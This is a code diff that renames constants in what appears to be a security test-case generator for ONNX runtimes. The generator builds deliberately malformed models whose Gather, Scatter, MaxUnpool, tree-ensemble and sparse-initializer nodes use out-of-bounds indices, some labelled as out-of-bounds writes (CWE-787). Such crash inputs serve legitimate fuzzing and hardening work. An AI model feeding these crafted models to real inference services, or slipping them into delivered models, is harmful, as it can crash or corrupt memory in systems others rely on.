@@ -10,7 +10,7 @@ RUNTIMES = "onnxruntime, onnx.reference, OpenVINO, TVM"
 ML = (("", 21), ("ai.onnx.ml", 3))
 ML5 = (("", 21), ("ai.onnx.ml", 5))
 CONTRIB = (("", 21), ("com.microsoft", 1))
-FAR = 1 << 40
+HUGE = 1 << 40
 TABLE = values("t", [float(i) for i in range(8)], FLOAT, [4, 2])
 
 attack = declare("index-range", "crashes", "A constant index is outside of the tensor that it selects from.",
@@ -21,7 +21,7 @@ def index(name, what, nodes, initializers, **options):
     attack(name, what, network(nodes, initializers), **options)
 
 
-index("gather", "Gather of row 2^40 of four rows.", [node("Gather", ["t", "i"], ["y"])], [TABLE, ints("i", FAR)])
+index("gather", "Gather of row 2^40 of four rows.", [node("Gather", ["t", "i"], ["y"])], [TABLE, ints("i", HUGE)])
 index("gather-negative", "Gather of row -1,000.", [node("Gather", ["t", "i"], ["y"])], [TABLE, ints("i", -1000)])
 index("gather-int32", "Gather with an int32 index of 2^31 - 1.", [node("Gather", ["t", "i"], ["y"])], [TABLE,
     values("i", [(1 << 31) - 1], INT32)])
@@ -32,19 +32,19 @@ index("gather-computed", "The index is the product of two constants.", [node("Mu
 index("gather-of-input", "Gather of row 100 of an input declared with four.", [node("Gather", ["x", "i"], ["y"])],
     [ints("i", 100)])
 index("gather-elements", "GatherElements with index 2^40.", [node("GatherElements", ["t", "i"], ["y"])], [TABLE,
-    values("i", [FAR, 0], INT64, [1, 2])])
-index("gather-nd", "GatherND at 2^40, 0.", [node("GatherND", ["t", "i"], ["y"])], [TABLE, values("i", [FAR, 0], INT64,
+    values("i", [HUGE, 0], INT64, [1, 2])])
+index("gather-nd", "GatherND at 2^40, 0.", [node("GatherND", ["t", "i"], ["y"])], [TABLE, values("i", [HUGE, 0], INT64,
     [1, 2])])
 index("gather-nd-negative", "GatherND at -9, 0.", [node("GatherND", ["t", "i"], ["y"])], [TABLE, values("i", [-9, 0],
     INT64, [1, 2])])
 index("scatter-nd", "ScatterND writes at 2^40.", [node("ScatterND", ["t", "i", "u"], ["y"])], [TABLE, values("i",
-    [FAR, 0], INT64, [1, 2]), values("u", [6.0])], cwe="CWE-787")
+    [HUGE, 0], INT64, [1, 2]), values("u", [6.0])], cwe="CWE-787")
 index("scatter-elements", "ScatterElements writes at 1,000.", [node("ScatterElements", ["t", "i", "u"], ["y"])],
     [TABLE, values("i", [1000, 0], INT64, [1, 2]), values("u", [6.0, 6.0], FLOAT, [1, 2])], cwe="CWE-787")
 index("scatter-elements-negative", "ScatterElements writes at -1,000.", [node("ScatterElements", ["t", "i", "u"],
     ["y"])], [TABLE, values("i", [-1000, 0], INT64, [1, 2]), values("u", [6.0, 6.0], FLOAT, [1, 2])], cwe="CWE-787")
 index("max-unpool", "MaxUnpool writes at index 2^40 of four.", [node("MaxUnpool", ["p", "i"], ["y"], kernel_shape=[2,
-    2], strides=[2, 2])], [values("p", [6.0], FLOAT, [1, 1, 1, 1]), values("i", [FAR], INT64, [1, 1, 1, 1])],
+    2], strides=[2, 2])], [values("p", [6.0], FLOAT, [1, 1, 1, 1]), values("i", [HUGE], INT64, [1, 1, 1, 1])],
     cwe="CWE-787")
 index("max-unpool-negative", "MaxUnpool writes at index -100.", [node("MaxUnpool", ["p", "i"], ["y"], kernel_shape=[2,
     2], strides=[2, 2])], [values("p", [6.0], FLOAT, [1, 1, 1, 1]), values("i", [-100], INT64, [1, 1, 1, 1])],
@@ -67,7 +67,7 @@ index("lstm-sequence-lens", "LSTM with a sequence length of 1,000 for one step."
     "l"], ["y"], hidden_size=1)], [values("s", [1.0], FLOAT, [1, 1, 1]), values("w", [1.0] * 4, FLOAT, [1, 4, 1]),
     values("r", [1.0] * 4, FLOAT, [1, 4, 1]), values("l", [1000], INT32)])
 index("sequence-at", "SequenceAt of element 2^40 of a sequence of one.", [node("SequenceConstruct", ["t"], ["q"]),
-    node("SequenceAt", ["q", "i"], ["y"])], [TABLE, scalar("i", FAR)])
+    node("SequenceAt", ["q", "i"], ["y"])], [TABLE, scalar("i", HUGE)])
 index("sequence-erase", "SequenceErase of element -50.", [node("SequenceConstruct", ["t"], ["q"]),
     node("SequenceErase", ["q", "i"], ["q2"]), node("ConcatFromSequence", ["q2"], ["y"], axis=0)], [TABLE, scalar("i",
     -50)])
@@ -96,7 +96,7 @@ attack("rotary-position-ids", "RotaryEmbedding with position 1,000,000 of a cach
     network([node("RotaryEmbedding", ["q", "p", "c", "c"], ["y"], domain="com.microsoft")], [values("q", [1.0] * 4,
     FLOAT, [1, 1, 4]), ints("p", 1000000), values("c", [1.0] * 4, FLOAT, [2, 2])], opsets=CONTRIB))
 attack("sparse-index", "A sparse initializer with an index of 2^40 in 8 elements: onnxruntime would write there.",
-    carrier(sparse=[sparse("sp", [8], [6.0], [FAR])], nodes=[node("Neg", ["sp"], ["z"])]), cwe="CWE-787")
+    carrier(sparse=[sparse("sp", [8], [6.0], [HUGE])], nodes=[node("Neg", ["sp"], ["z"])]), cwe="CWE-787")
 attack("sparse-index-negative", "A sparse initializer with an index of -1.", carrier(sparse=[sparse("sp", [8], [6.0],
     [-1])], nodes=[node("Neg", ["sp"], ["z"])]), cwe="CWE-787")
 attack("sparse-unsorted", "A sparse initializer whose indices are unsorted and repeated.",
@@ -104,7 +104,7 @@ attack("sparse-unsorted", "A sparse initializer whose indices are unsorted and r
 attack("sparse-more-indices", "A sparse initializer with one value and four indices.", carrier(sparse=[sparse("sp",
     [8], [1.0], [0, 1, 2, 3])], nodes=[node("Neg", ["sp"], ["z"])]))
 attack("tf-idf-indexes", "TfIdfVectorizer with an ngram index of 2^40.", network([node("TfIdfVectorizer", ["i"],
-    ["y"], max_gram_length=1, max_skip_count=0, min_gram_length=1, mode="TF", ngram_counts=[0], ngram_indexes=[FAR],
+    ["y"], max_gram_length=1, max_skip_count=0, min_gram_length=1, mode="TF", ngram_counts=[0], ngram_indexes=[HUGE],
     pool_int64s=[1])], [ints("i", 1, 1)]), cwe="CWE-787")
 attack("tf-idf-counts", "TfIdfVectorizer with ngram_counts beyond its pool.", network([node("TfIdfVectorizer", ["i"],
     ["y"], max_gram_length=2, max_skip_count=0, min_gram_length=1, mode="TF", ngram_counts=[0, 1000],
@@ -115,7 +115,7 @@ attack("tf-idf-counts", "TfIdfVectorizer with ngram_counts beyond its pool.", ne
 attack = declare("tree-ensemble", "crashes",
     "A tree refers to nodes, features or targets that do not exist, or to itself.", "CWE-125",
     "onnxruntime, onnx.reference, mlprodict")
-LEAVES = {
+TREE = {
     "nodes_treeids": [0, 0, 0], "nodes_nodeids": [0, 1, 2], "nodes_featureids": [0, 0, 0],
     "nodes_values": [0.5, 0.0, 0.0], "nodes_modes": ["BRANCH_LEQ", "LEAF", "LEAF"],
     "nodes_truenodeids": [1, 0, 0], "nodes_falsenodeids": [2, 0, 0],
@@ -126,7 +126,7 @@ ROW = [value("x", FLOAT, [1, 4])]
 
 
 def tree(name, what, cwe="CWE-125", source=None, **changes):
-    attributes = LEAVES | changes
+    attributes = TREE | changes
     attack(name, what, network([node("TreeEnsembleRegressor", ["x"], ["y"], domain="ai.onnx.ml", **attributes)],
         inputs=ROW, opsets=ML), cwe=cwe, source=source)
 
@@ -150,7 +150,7 @@ tree("weights-short", "target_weights has one element for two leaves.", target_w
 tree("values-short", "nodes_values has one element for three nodes.", nodes_values=[0.5])
 tree("node-of-other-tree", "A leaf belongs to tree 7, which does not exist.", target_treeids=[7, 0])
 attack("classifier-class-outside", "A leaf votes for class 99 of two.", network([node("TreeEnsembleClassifier", ["x"],
-    ["l", "y"], domain="ai.onnx.ml", **{k: v for k, v in LEAVES.items() if not k.startswith(("target", "n_"))},
+    ["l", "y"], domain="ai.onnx.ml", **{k: v for k, v in TREE.items() if not k.startswith(("target", "n_"))},
     class_treeids=[0, 0], class_nodeids=[1, 2], class_ids=[99, 0], class_weights=[1.0, 1.0], classlabels_int64s=[0,
     1])], inputs=ROW, opsets=ML), source="https://github.com/microsoft/onnxruntime/pull/27571")
 TREE5 = {
